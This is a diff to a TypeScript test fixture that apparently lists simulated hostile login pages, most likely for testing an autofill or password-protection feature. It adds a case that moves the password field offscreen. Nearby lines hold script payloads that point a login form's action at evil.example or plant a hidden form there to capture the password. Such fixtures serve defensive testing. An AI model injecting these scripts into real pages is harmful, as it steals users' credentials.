@@ -119,6 +119,7 @@ export const hostilePages = (elsewhere: string, here: string): HostilePage[] => 
   // Changing while it is filled
   afterLogin('changing where its form leads', "form.setAttribute('action', 'https://evil.example')"),
   afterLogin('hiding its password', "form.password.style.opacity = '0'"),
+  afterLogin('moving its password away', "form.password.style.cssText = 'position:absolute;left:-9999px'"),
   afterLogin(
     'putting its password into another form',
     "form.password.setAttribute('form', 'nobody'); form.insertAdjacentHTML('afterend', '<form id=nobody action=https://evil.example></form>')",
